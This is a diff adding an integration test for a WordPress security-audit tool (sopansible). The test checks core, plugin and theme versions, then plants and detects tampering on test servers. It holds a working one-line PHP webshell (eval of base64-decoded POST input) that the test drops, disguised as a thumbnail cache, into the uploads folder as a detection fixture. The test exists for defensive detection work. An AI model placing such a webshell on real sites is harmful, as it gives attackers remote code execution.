@@ -3,24 +3,34 @@ it up (config-<domain>.php, the database in the court's MariaDB, posts, pages, a
 library, pretty permalinks), and SOP W1 reading it: front page, feed, WordPress's sitemap index and
 its child sitemaps, freshness from the newest post. W2 and W8 on it: the snapshot holds the database,
 wp-content (whose themes and plugins link into /usr/share/wordpress) and /etc/wordpress; the drill
-restores them onto the other WordPress court and renders the login page and the newest post."""
+restores them onto the other WordPress court and renders the login page and the newest post. IT-AUDIT
+and W6 on it: WordPress's core version (Debian's package, judged by Debian 12's support), its plugins
+and themes with their versions, a webshell in the uploads folder and a file added to the packaged code
+found, and the diagnosis naming the web server, PHP, MariaDB and WordPress."""
 
 from __future__ import annotations
 
+import base64
 import json
 import os
+import re
 import shutil
 import ssl
+import subprocess
+import sys
 import time
 import urllib.error
 import urllib.request
 from datetime import UTC, datetime
+from pathlib import Path
 from types import SimpleNamespace
 from typing import Any
 
 import pytest
 
+from ansible_collections.pn.website.plugins.module_utils.appsec import eol_data
 from sopansible.cli import main
+from sopansible.report.render import render_reports
 from sopansible.store import HistoryStore
 from tests import fleet as fleet_lib
 from tests.integration.sop_playbook import run_sop_playbook
@@ -289,3 +299,173 @@ def test_w2_backs_up_and_w8_drills_the_wordpress_court(wp, tmp_path):
     assert status == 200 and body == b"bukti pemulihan\n"
     # nothing of the repository access stays on the scratch court
     assert wp.exec(SCRATCH, "ls /etc/pn-website", check=False).stdout.split() in ([], ["known_hosts"])
+
+
+WEBSHELL = "<?php @eval(base64_decode($_POST['k'])); // thumbnail cache\n"
+CORE = "/usr/share/wordpress"
+UPLOADS = "/var/lib/wordpress/wp-content/uploads"
+
+
+def sopansible(data, *args: str) -> dict:
+    """`sopansible ARGS --json` with its history in DATA; its JSON answer."""
+    proc = subprocess.run(
+        [str(Path(sys.executable).parent / "sopansible"), "--lang", "id", *args, "--json"],
+        capture_output=True,
+        text=True,
+        cwd=fleet_lib.ROOT,
+        env=dict(os.environ, SOPANSIBLE_DATA=str(data)),
+        check=False,
+    )
+    try:
+        return json.loads(proc.stdout)
+    except ValueError:
+        pytest.fail(f"sopansible {args[0]} printed no JSON (rc {proc.returncode}): {proc.stderr[-3000:]}")
+
+
+def header(fleet, court, path: str, field: str) -> str:
+    """FIELD of a WordPress file header on the court, read with grep (not the audit's reader)."""
+    line = fleet.exec(court.name, f"grep -m1 -i '^{field}:' {path}").stdout
+    return line.split(":", 1)[1].strip()
+
+
+def test_audit_and_diagnosis_of_the_wordpress_courts(wp, tmp_path):
+    """IT-AUDIT on both WordPress courts reads WordPress 6.1 from Debian's package in /usr/share/wordpress
+    (the web root is wp-content) and judges it by Debian 12's support, lists akismet, the theme and the
+    image's must-use plugin with the versions their files carry, and finds nothing changed in a clean
+    court (the packaged code checked against dpkg, wp-content against the backup's manifest or the scan's
+    baseline). A webshell then dropped in the uploads folder, a file added to the packaged code and a
+    core file edited are each found with their paths; the SOP report shows the core, its basis and the
+    plugins. W6 names the web server, PHP, MariaDB and WordPress from the court's own evidence."""
+    data = tmp_path / "data"
+    debian12 = dict((c["cycle"], c["eol"]) for c in eol_data.DATA["distributions"]["debian"])["12"]
+    # the uploads probe another test of this module leaves behind
+    for each in wp.courts:
+        wp.exec(each.name, f"rm -f {UPLOADS}/probe.php")
+
+    started = time.monotonic()
+    first = sopansible(data, "audit", "-i", str(wp.inventory), "--areas", "cms")
+    print(f"\nIT-AUDIT (cms area, appsec) of 2 WordPress courts: {time.monotonic() - started:.1f}s")
+    rows = {row["court"]: row for row in first["courts"]}
+    assert set(rows) == {c.name for c in wp.courts}
+    for each in wp.courts:
+        row = rows[each.name]
+        package = wp.exec(each.name, "dpkg-query -W -f '${Version}' wordpress").stdout.strip()
+        software = {item["product"]: item for item in row["appsec"]["software"]}
+        core = software["wordpress"]
+        assert core["version"] == package.split("+", 1)[0] and core["package"] == package
+        assert core["basis"] == "distribution" and core["distribution"] == "debian 12"
+        assert core["eol"] == debian12 and core["status"] == "supported" and core["upstream_eol"] is None
+        assert row["appsec"]["cms"]["file"] == f"{CORE}/wp-includes/version.php"
+        assert (
+            software["php"]["version"].startswith("8.2.") and software["mariadb"]["basis"] == "distribution"
+        )
+
+        extensions = row["appsec"]["extensions"]
+        assert extensions["content_dir"] == "/var/lib/wordpress/wp-content" and not extensions["truncated"]
+        plugins = {(p["slug"], p["name"], p["version"], p["link"]) for p in extensions["plugins"]}
+        akismet = f"{CORE}/wp-content/plugins/akismet"
+        assert plugins == {
+            (
+                "akismet",
+                header(wp, each, f"{akismet}/akismet.php", "Plugin Name"),
+                header(wp, each, f"{akismet}/akismet.php", "Version"),
+                akismet,
+            )
+        }
+        themes = {(t["slug"], t["version"]) for t in extensions["themes"]}
+        style = f"{CORE}/wp-content/themes/twentytwentyone/style.css"
+        assert themes == {("twentytwentyone", header(wp, each, style, "Version"))}
+        assert [m["slug"] for m in extensions["mu_plugins"]] == ["pn-court-offline"]
+
+        # a clean court: nothing of WordPress's own is flagged
+        assert row["appsec_findings"] == [], row["appsec_findings"]
+        scan = row["appsec"]["scan"]
+        assert scan["complete"] and scan["reference"]["kind"] in ("backup-manifest", "baseline")
+        assert sorted(scan["symlinks_out"]) == [
+            "plugins/akismet",
+            "plugins/index.php",
+            "themes/twentytwentyone",
+        ]
+        code = scan["code"]
+        assert code["root"] == CORE and code["complete"] and code["files_scanned"] > 1000
+        assert {p["name"]: p["version"] for p in code["packages"]}["wordpress"] == package
+        assert (code["changed_count"], code["added_count"], code["webshells_count"]) == (0, 0, 0)
+        controls = {c["id"]: c for c in row["controls"]}
+        config = f"/etc/wordpress/config-{each.domain}.php"
+        assert controls["cms-config-perms"]["status"] == "pass"
+        assert controls["cms-config-perms"]["observed"] == f"{config} 0640"
+
+    month = datetime.now(UTC).strftime("%Y/%m")
+    shell = f"{UPLOADS}/{month}/thumb-cache.php"
+    added = f"{CORE}/wp-includes/class-wp-thumb-cache.php"
+    try:
+        wp.exec(COURT, f"cp -p {CORE}/wp-includes/load.php /root/load.php.orig")
+        wp.exec(
+            COURT,
+            f"mkdir -p {UPLOADS}/{month} && echo {base64.b64encode(WEBSHELL.encode()).decode()} | base64 -d"
+            f" > {shell} && chown www-data: {shell}"
+            f" && echo '<?php echo 1;' > {added} && echo '// edited' >> {CORE}/wp-includes/load.php",
+        )
+        second = sopansible(data, "audit", "-i", str(wp.inventory), "--areas", "cms", "--limit", COURT)
+        (row,) = second["courts"]
+        found = {}
+        for finding in row["appsec_findings"]:
+            found.setdefault(finding["rule"], []).append(finding)
+        assert sorted(found) == ["upload-php-file", "webroot-changed", "webroot-webshell"], found
+        relative = f"uploads/{month}/thumb-cache.php"
+        (webshell,) = found["webroot-webshell"]
+        assert webshell["severity"] == "critical"
+        assert webshell["evidence"]["files"] == [
+            {"path": relative, "markers": ["eval-decoded"], "size_bytes": len(WEBSHELL)}
+        ]
+        (in_uploads,) = found["upload-php-file"]
+        assert in_uploads["evidence"]["files"] == [relative]
+        changes = {f["evidence"]["kind"]: f["evidence"] for f in found["webroot-changed"]}
+        assert set(changes) in ({"package", "backup-manifest"}, {"package", "baseline"})
+        (content,) = [e for kind, e in changes.items() if kind != "package"]
+        assert content["added"] == [relative] and content["changed"] == []
+        assert changes["package"]["added"] == [added]
+        assert changes["package"]["changed"] == [f"{CORE}/wp-includes/load.php"]
+
+        with HistoryStore(data / "history.sqlite") as history:
+            render_reports(history, tmp_path / "out")
+        report = json.loads((tmp_path / "out" / COURT / "laporan.json").read_text(encoding="utf-8"))
+        view = next(a for a in report["activities"] if a["id"] == "IT-AUDIT")
+        (appsec,) = view["tables"]
+        shown = dict((part, value) for part, value in appsec["rows"])
+        core_row = shown[f"WordPress {row['appsec']['cms']['version']}"]
+        assert core_row.startswith(f"akhir dukungan {debian12} (dukungan rilis debian 12) (masih didukung)")
+        assert re.match(r"Akismet Anti-Spam \d[\d.]* *$", shown["Plugin WordPress"]), shown[
+            "Plugin WordPress"
+        ]
+        assert shown["Tema WordPress"].startswith("Twenty Twenty-One ")
+        assert shown["Kode CMS dari paket"].startswith(f"{CORE} (wordpress ")
+        assert "1 berubah, 1 baru" in shown["Kode CMS dari paket"]
+        assert shown["PHP di folder unggahan"] == relative
+
+        # W6 while the webshell is there: the court's own evidence names its parts
+        started = time.monotonic()
+        diagnosis = sopansible(data, "diagnose", "-i", str(wp.inventory), "--no-report")
+        print(f"W6 of 2 WordPress courts: {time.monotonic() - started:.1f}s")
+        assert set(diagnosis["courts"]) == {c.name for c in wp.courts}
+        with HistoryStore(data / "history.sqlite") as history:
+            for each in wp.courts:
+                w6 = history.latest(each.name)["W6"]
+                assert w6["status"] in ("ok", "warning", "critical"), w6
+                server = w6["outputs"]["evidence"]["server"]
+                assert server["webserver"] == each.webserver
+                assert server["php_version"].startswith("8.2.")
+                assert server["db_version"]["product"] == "mariadb"
+                assert server["cms"]["cms"] == "wordpress" and server["cms"]["root"] == CORE
+                assert server["cms"]["version"] == rows[each.name]["appsec"]["cms"]["version"]
+                roles = {s["role"]: s["running"] for s in server["services"].values()}
+                assert roles == {"webserver": True, "php-fpm": True, "database": True}
+                if each.name == COURT:
+                    recent = [f["path"] for f in server["recent_webroot_changes"]["files"]]
+                    assert shell in recent
+    finally:
+        wp.exec(
+            COURT,
+            f"rm -f {shell} {added}; cp -p /root/load.php.orig {CORE}/wp-includes/load.php",
+            check=False,
+        )
